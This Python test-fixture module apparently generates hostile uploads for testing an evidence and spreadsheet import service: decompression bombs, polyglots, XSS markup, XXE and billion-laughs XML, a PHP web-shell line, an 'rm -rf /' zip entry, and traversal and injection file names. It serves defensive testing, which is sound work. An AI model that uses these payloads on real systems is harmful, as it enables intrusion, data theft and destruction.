"""Hostile uploads, generated in memory from a fixed seed (the same files on every run).

``evidence_files()`` gives the families an evidence upload must survive: truncated and corrupted
photos and PDFs, polyglots, decompression bombs, markup and script posing as images, empty and
tiny files, random bytes, and real photos under odd names. ``spreadsheet_files()`` gives the ones a
spreadsheet import must survive. Every file is small: the whole set is made in well under a second.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image
from pypdf import PdfWriter

from ..factories import jpeg, pdf, png

SEED = 20261124


@dataclass(frozen=True)
class Hostile:
    family: str
    name: str
    data: bytes
    content_type: str = "application/octet-stream"


# --- real files to start from -----------------------------------------------------------------


def photo(colour=(40, 120, 200), exif: bool = True) -> bytes:
    """A small JPEG; with ``exif`` as a phone writes it (time taken, turned a quarter)."""
    return jpeg(64, 48, colour=colour, orientation=6 if exif else None, taken="2026:05:12 09:30:00" if exif else None)


def webp(colour=(20, 160, 90)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), colour).save(out, "WEBP")
    return out.getvalue()


def heic() -> bytes:
    import pillow_heif

    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (64, 48), (90, 30, 160))).save(out, quality=50)
    return out.getvalue()


def ooxml(prefix: str = "word/", extra: dict | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(f"{prefix}document.xml", "<document/>")
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF")
    return out.getvalue()


# --- bombs ------------------------------------------------------------------------------------


def png_header_only(width: int, height: int, depth: int = 8, colour: int = 2) -> bytes:
    """A PNG whose IHDR claims a huge picture, with one tiny IDAT."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")


def png_bomb(width: int, height: int) -> bytes:
    """A real 1-bit PNG of zeros: a few KB on disk, width×height pixels decoded."""
    rows = b"".join(b"\x00" + b"\x00" * ((width + 7) // 8) for _ in range(height))
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")


def jpeg_huge_sof(width: int, height: int) -> bytes:
    """A real JPEG with its frame header rewritten to claim width×height."""
    data = bytearray(photo(exif=False))
    i = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, i + 5, height, width)
    return bytes(data)


def webp_huge(width: int, height: int) -> bytes:
    """A VP8X WebP header claiming a huge canvas."""
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00" + (width - 1).to_bytes(3, "little") + (
        height - 1).to_bytes(3, "little")
    body = b"WEBP" + vp8x
    return b"RIFF" + struct.pack("<I", len(body)) + body


def zip_bomb(prefix: str = "xl/", megabytes: int = 600) -> bytes:
    """An OOXML-looking zip whose last part declares ``megabytes`` unpacked (headers forged: a real
    one takes seconds to make, and the checks must refuse it without unpacking anything)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(f"{prefix}workbook.xml", "<workbook/>")
        archive.writestr(f"{prefix}bomb.bin", b"\x00" * 4096)
    data = bytearray(out.getvalue())
    size = megabytes * 1024 * 1024
    struct.pack_into("<I", data, data.rindex(b"PK\x03\x04") + 22, size)
    struct.pack_into("<I", data, data.rindex(b"PK\x01\x02") + 24, size)
    return bytes(data)


def nested_zip(depth: int = 6) -> bytes:
    data = ooxml("word/")
    for n in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr(f"word/inner{n}.docx", data)
        data = out.getvalue()
    return data


def many_parts_zip(parts: int = 12000) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for n in range(parts):
            archive.writestr(f"word/p{n}", b"")
    return out.getvalue()


def pdf_deep_nesting(depth: int = 50000) -> bytes:
    body = b"[" * depth + b"]" * depth
    return (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /X " + body + b" >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")


def pdf_fake_count() -> bytes:
    return (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1000000000 >>\nendobj\n"
            b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")


def pdf_with_javascript() -> bytes:
    """A valid one-page PDF that runs JavaScript when opened."""
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('x');")})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- the families -----------------------------------------------------------------------------

MARKUP = [
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
    b"<html><img src=x onerror=alert(1)></html>",
    b"\xef\xbb\xbf<script>alert(1)</script>",
    b"   \r\n\t<iframe src=javascript:alert(1)>",
    "<\x00s\x00v\x00g\x00>\x00".encode("latin-1"),
    b"\xff\xfe" + "<html><script>alert(1)</script></html>".encode("utf-16-le"),
    b"\xfe\xff" + "<svg onload=alert(1)>".encode("utf-16-be"),
    b"<a href='javascript:alert(1)'>x</a>",
    b"<meta http-equiv=refresh content='0;url=https://evil.example'>",
    b"<form action=https://evil.example><input name=p></form>",
    b"alert(document.domain)//",
    b"<?php system($_GET['c']); ?>",
    b'{"jpeg": "<script>alert(1)</script>"}',
]
MARKUP_NAMES = [("x.jpg", "image/jpeg"), ("x.png", "image/png"), ("x.svg", "image/svg+xml"),
                ("x.html", "text/html"), ("photo.jpeg", "image/jpeg"), ("scan.pdf", "application/pdf")]

ODD_NAMES = [
    "../../x.jpg", "..\\..\\x.jpg", "/etc/passwd", "/tmp/x.jpg", "C:\\Windows\\system32\\x.jpg",
    "\\\\server\\share\\x.jpg", "x/../../y.jpg", "..", ".", "a\x00.jpg", "\x00", "x\r\nContent-Type: text/html.jpg",
    "\x1b[31mred.jpg", "tab\tname.jpg", "del\x7f.jpg", "x" * 300 + ".jpg", "照" * 300 + ".jpg", "y" * 5000,
    "photo\u202egpj.exe", "\u202d\u202eabc.jpg", "zero\u200bwidth.jpg", "\ufeffbom.jpg", "e\u0301\u0301\u0301.jpg",
    "æ\x96\x87ä»¶.jpg", "ﾃｽﾄ.jpg", "😀🎉.jpg", "中文名称 现场照片.jpg", "ｘ．ｊｐｇ", "／etc／passwd", "..\u2215x.jpg",
    "CON.jpg", "nul", "COM1.jpg", "LPT9.png", "aux.pdf", "con", "PRN.jpeg", "x.jpg.", "x.jpg ", "...", "",
    ".jpg", ".htaccess", "x.php.jpg", "x.jpg.php", "x.html", "x.svg", "%2e%2e%2fx.jpg", "x;.jpg", '"quoted".jpg',
    "<script>alert(1)</script>.jpg", "x'; DROP TABLE archives_evidenceitem; --.jpg", "a\u2028b.jpg",
    "a\u0085b.jpg", "\udcff.jpg", "name\x01\x02.jpg", "文件\n名.jpg", "  spaced  .jpg", "x.JPG", "x.jpeg.jpeg",
    "noext", "x.exe", "x.bat", "x.docx", "x.pdf", "x.heic", "*?<>|.jpg", "a:b.jpg", "~/x.jpg", "$HOME.jpg",
]


def evidence_files() -> list[Hostile]:
    rng = random.Random(SEED)
    base = {"jpeg": photo(), "png": png(48, 32, colour=(200, 40, 40)), "pdf": pdf(), "webp": webp(), "heic": heic()}
    files = []
    files += _truncated(rng, base)
    files += _corrupted(rng, base)
    files += _polyglots(base)
    files += _bombs()
    files += [Hostile("markup", name, body, ctype) for body in MARKUP for name, ctype in
              rng.sample(MARKUP_NAMES, 3)]
    files += _tiny_and_random(rng)
    files += _odd_names(rng)
    files += _valid(base)
    return files


def _truncated(rng, base) -> list[Hostile]:
    files = []
    for kind, count in (("jpeg", 70), ("png", 50), ("pdf", 50), ("webp", 15), ("heic", 15)):
        data = base[kind]
        for n in range(count):
            cut = rng.randrange(1, len(data) - 1)
            files.append(Hostile(f"truncated-{kind}", f"cut{n}.{kind}", data[:cut], f"image/{kind}"))
    return files


def _corrupted(rng, base) -> list[Hostile]:
    files = []
    for kind in ("jpeg", "png", "pdf"):
        for n in range(20):
            data = bytearray(base[kind])
            for _ in range(rng.randint(1, 8)):
                at = rng.randrange(8, len(data))
                data[at] = rng.randrange(256)
            files.append(Hostile(f"corrupted-{kind}", f"flip{n}.{kind}", bytes(data), f"image/{kind}"))
    return files


def _polyglots(base) -> list[Hostile]:
    html = b"<html><body><script>alert(document.cookie)</script></body></html>"
    js = b"*/=alert(1);/*"
    com = base["jpeg"][:2] + b"\xff\xfe" + struct.pack(">H", len(html) + 2) + html + base["jpeg"][2:]
    zip_tail = ooxml("xl/")
    items = [
        ("jpeg+html", "polyglot.jpg", base["jpeg"] + html, "image/jpeg"),
        ("html+jpeg", "polyglot.jpg", html + base["jpeg"], "image/jpeg"),
        ("jpeg-comment-html", "comment.jpg", com, "image/jpeg"),
        ("png+html", "polyglot.png", base["png"] + html, "image/png"),
        ("png+php", "shell.php.png", base["png"] + b"<?php system($_GET['c']); ?>", "image/png"),
        ("pdf+zip", "polyglot.pdf", base["pdf"] + zip_tail, "application/pdf"),
        ("zip+pdf", "polyglot.xlsx", zip_tail + base["pdf"], "application/zip"),
        ("pdf+html", "polyglot.pdf", base["pdf"] + html, "application/pdf"),
        ("html+pdf", "polyglot.pdf", html + base["pdf"], "application/pdf"),
        ("gif+js", "polyglot.gif", b"GIF89a/*" + gif()[8:] + js, "image/gif"),
        ("gif+js", "polyglot.jpg", b"GIF89a/*" + gif()[8:] + js, "image/jpeg"),
        ("gif", "real.gif", gif(), "image/gif"),
        ("jpeg-in-zip", "photos.docx", ooxml("word/", {"word/media/x.jpg": base["jpeg"]}), "application/zip"),
        ("pdf-javascript", "js.pdf", pdf_with_javascript(), "application/pdf"),
        ("zip+jpeg", "polyglot.jpg", zip_tail + base["jpeg"], "image/jpeg"),
        ("jpeg+zip", "polyglot.jpg", base["jpeg"] + zip_tail, "image/jpeg"),
        ("webp+html", "polyglot.webp", base["webp"] + html, "image/webp"),
        ("heic+html", "polyglot.heic", base["heic"] + html, "image/heic"),
        ("ole-fake", "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "application/msword"),
        ("ole-html", "old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + html, "application/vnd.ms-excel"),
        ("zip-no-office", "archive.docx", _zip({"evil.sh": "rm -rf /"}), "application/zip"),
        ("zip-traversal", "slip.xlsx", _zip({"[Content_Types].xml": "<Types/>", "../../xl/evil.xml": "x",
                                              "xl/a.xml": "x"}), "application/zip"),
        ("pdf-no-pages", "empty.pdf", pdf(0), "application/pdf"),
        ("riff-not-webp", "x.webp", b"RIFF\x10\x00\x00\x00WAVEfmt " + b"\x00" * 16, "image/webp"),
        ("ftyp-not-heic", "x.heic", b"\x00\x00\x00\x18ftypheic" + b"\x00" * 40, "image/heic"),
    ]
    return [Hostile(f"polyglot-{family}", name, data, ctype) for family, name, data, ctype in items]


def _zip(parts: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _bombs() -> list[Hostile]:
    items = [("png-ihdr", f"ihdr{w}x{h}.png", png_header_only(w, h), "image/png")
             for w, h in ((100000, 100000), (2**31 - 1, 2**31 - 1), (1, 2**31 - 1), (65535, 65535), (0, 0),
                          (20000, 4000))]
    items += [("jpeg-sof", f"sof{w}x{h}.jpg", jpeg_huge_sof(w, h), "image/jpeg")
              for w, h in ((65500, 65500), (60000, 2000), (65535, 1000), (0, 100))]
    items += [("webp-canvas", f"canvas{w}.webp", webp_huge(w, h), "image/webp") for w, h in ((16384, 16384), (9000, 9000))]
    items += [
        ("png-zeros", "zeros.png", png_bomb(10000, 8000), "image/png"),
        ("zip-xlsx", "bomb.xlsx", zip_bomb("xl/"), "application/zip"),
        ("zip-docx", "bomb.docx", zip_bomb("word/"), "application/zip"),
        ("zip-nested", "nested.docx", nested_zip(), "application/zip"),
        ("zip-parts", "parts.docx", many_parts_zip(), "application/zip"),
        ("pdf-nesting", "deep.pdf", pdf_deep_nesting(), "application/pdf"),
        ("pdf-count", "count.pdf", pdf_fake_count(), "application/pdf"),
        ("gif-huge", "huge.gif", b"GIF89a\xff\xff\xff\xff" + gif()[10:], "image/gif"),
    ]
    return [Hostile(f"bomb-{family}", name, data, ctype) for family, name, data, ctype in items]


def _tiny_and_random(rng) -> list[Hostile]:
    files = [Hostile("tiny", "empty.jpg", b"", "image/jpeg")]
    files += [Hostile("tiny", f"one{n}.jpg", bytes([n]), "image/jpeg") for n in (0, 0x3C, 0xFF, 0x25, 0x50, 0x89)]
    files += [Hostile("tiny", f"magic{n}.bin", magic, "image/jpeg") for n, magic in enumerate(
        [b"\xff\xd8", b"\xff\xd8\xff", b"\x89PNG", b"%PDF-", b"PK\x03\x04", b"RIFF", b"GIF8", b"\xd0\xcf\x11\xe0"])]
    magics = [b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"%PDF-1.7\n", b"PK\x03\x04", b"RIFF\x00\x00\x00\x00WEBP",
              b"\x00\x00\x00\x18ftypheic", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b""]
    for n in range(80):
        head = magics[n % len(magics)]
        body = rng.randbytes(rng.choice([1, 7, 100, 1000, 4096, 20000]))
        files.append(Hostile("random", f"random{n}.{rng.choice(['jpg', 'png', 'pdf', 'docx', 'bin'])}", head + body,
                             rng.choice(["image/jpeg", "application/pdf", "application/octet-stream"])))
    return files


def _odd_names(rng) -> list[Hostile]:
    files = []
    for n, name in enumerate(ODD_NAMES):
        colour = (n * 7 % 256, n * 13 % 256, n * 29 % 256)
        data = photo(colour, exif=False) if n % 3 else png(48, 32, colour=colour)
        ctype = rng.choice(["image/jpeg", "text/html", "application/x-php", "image/svg+xml", ""])
        files.append(Hostile("odd-name", name, data, ctype or "application/octet-stream"))
    return files


def _valid(base) -> list[Hostile]:
    items = [("jpeg", "photo.jpg", base["jpeg"], "image/jpeg"), ("png", "scan.png", base["png"], "image/png"),
             ("webp", "pic.webp", base["webp"], "image/webp"), ("heic", "IMG_0001.HEIC", base["heic"], "image/heic"),
             ("pdf", "plan.pdf", base["pdf"], "application/pdf"), ("docx", "notes.docx", ooxml("word/"), "application/zip"),
             ("xlsx", "table.xlsx", ooxml("xl/"), "application/zip"), ("pptx", "deck.pptx", ooxml("ppt/"), "application/zip")]
    return [Hostile(f"valid-{family}", name, data, ctype) for family, name, data, ctype in items]


# --- spreadsheets -----------------------------------------------------------------------------


def spreadsheet_files() -> list[Hostile]:
    """Hostile .xlsx uploads for the spreadsheet imports (目标任务分解表, 点位清单, 批量交办)."""
    import openpyxl

    rng = random.Random(SEED + 1)
    wb = openpyxl.Workbook()
    ws = wb.active
    for c, header in enumerate(["标题", "测评标准编号", "来源", "区", "点位名称", "点位类型"], start=1):
        ws.cell(1, c, header)
    ws.cell(2, 1, "示例")
    good = _save(wb)
    sparse = openpyxl.Workbook()
    sparse.active["A1"] = "标题"
    sparse.active["XFD1048576"] = "炸弹"
    tall = openpyxl.Workbook()
    tall.active["A1"] = "区"
    tall.active["A1048576"] = "炸弹"
    files = [
        ("sparse-cell", _save(sparse)), ("tall-sheet", _save(tall)), ("zip-bomb", zip_bomb("xl/", 120)),
        ("billion-laughs", _xlsx_with_strings(_laughs())), ("xxe", _xlsx_with_strings(_xxe())),
        ("dimension", _xlsx_patch(good, b"<dimension ref=\"A1:XFD1048576\"/>")),
        ("ole", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512), ("csv", "区,点位名称\n东湖区,x\n".encode()),
        ("html", b"<html><table><tr><td>x</td></tr></table></html>"), ("empty", b""), ("pdf", pdf()),
        ("docx", ooxml("word/")), ("nested", nested_zip()), ("many-parts", many_parts_zip(3000)),
        ("jpeg", photo()),
    ]
    files += [(f"truncated{n}", good[: rng.randrange(1, len(good) - 1)]) for n in range(12)]
    # A sound zip whose worksheet is cut short or carries a DTD: read lazily, after the file opened.
    sheet = _part(good, "xl/worksheets/sheet1.xml")
    files += [("sheet-truncated", _xlsx_replace(good, "xl/worksheets/sheet1.xml", sheet[: len(sheet) // 2])),
              ("sheet-laughs", _xlsx_replace(good, "xl/worksheets/sheet1.xml", _with_dtd(sheet, _laughs()))),
              ("sheet-xxe", _xlsx_replace(good, "xl/worksheets/sheet1.xml", _with_dtd(sheet, _xxe())))]
    files += [(f"random{n}", b"PK\x03\x04" + rng.randbytes(rng.choice([10, 500, 5000]))) for n in range(6)]
    return [Hostile(f"xlsx-{family}", f"{family}.xlsx", data,
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet") for family, data in files]


def _save(workbook) -> bytes:
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _laughs() -> bytes:
    """The "billion laughs": ten levels of entities, each ten of the one below (10^10 "ha")."""
    entities = '<!ENTITY l0 "hahahahaha">' + "".join(
        f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10}">' for n in range(1, 10))
    return (f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]>'
            '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
            "<si><t>&l9;</t></si></sst>").encode()


def _xxe() -> bytes:
    return (b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
            b"<si><t>&x;</t></si></sst>")


def _xlsx_with_strings(shared: bytes) -> bytes:
    """A workbook whose shared strings part is replaced (cell A1 refers to string 0)."""
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active["A1"] = "区"
    wb.active["B1"] = "点位名称"
    data = _save(wb)
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, shared if info.filename == "xl/sharedStrings.xml" else source.read(info))
    return out.getvalue()


def _part(data: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read(name)


def _xlsx_replace(data: bytes, name: str, body: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, body if info.filename == name else source.read(info))
    return out.getvalue()


def _with_dtd(sheet: bytes, shared: bytes) -> bytes:
    """The worksheet with the DOCTYPE of ``shared`` (laughs or XXE) and its entity in cell text."""
    doctype = shared[shared.index(b"<!DOCTYPE"):shared.index(b"]>") + 2].replace(b"DOCTYPE sst", b"DOCTYPE worksheet")
    entity = b"&l9;" if b"l9" in shared else b"&x;"
    body = sheet[sheet.index(b"<worksheet"):]
    body = body.replace(b"</sheetData>", b'<row r="3"><c r="A3" t="inlineStr"><is><t>' + entity
                        + b"</t></is></c></row></sheetData>", 1)
    return b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + doctype + body


def _xlsx_patch(data: bytes, dimension: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            body = source.read(info)
            if info.filename.startswith("xl/worksheets/"):
                start = body.find(b"<dimension")
                if start >= 0:
                    end = body.find(b"/>", start) + 2
                    body = body[:start] + dimension + body[end:]
            archive.writestr(info.filename, body)
    return out.getvalue()
